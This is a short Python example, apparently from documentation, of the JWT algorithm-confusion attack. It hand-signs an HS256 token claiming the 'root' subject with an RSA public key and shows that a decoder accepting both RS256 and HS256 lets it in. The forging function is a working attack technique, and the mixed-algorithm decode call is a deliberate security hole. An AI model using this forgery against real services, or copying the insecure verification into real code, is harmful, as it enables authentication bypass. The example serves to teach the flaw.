"""Both families of algorithms, and a public key that was copied as bare text."""

import base64
import hmac
import json

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import (
    Encoding,
    PublicFormat,
)

public = rsa.generate_private_key(65537, 2048).public_key()
pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
bare = b"".join(pem.splitlines()[1:-1])  # as an admin page shows it


# --8<-- [start:forge]
def forge(secret: bytes) -> str:
    """HS256 by hand: the attacker does not use a careful library."""

    def part(data: bytes) -> bytes:
        return base64.urlsafe_b64encode(data).rstrip(b"=")

    head = part(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    signed = head + b"." + part(b'{"sub": "root"}')
    return (
        signed + b"." + part(hmac.digest(secret, signed, "sha256"))
    ).decode()


def attempt(key: bytes) -> None:
    claims = jwt.decode(forge(key), key, algorithms=["RS256", "HS256"])
    print("logged in as", claims["sub"])


# --8<-- [end:forge]


if __name__ == "__main__":
    attempt(bare)
    attempt(pem)
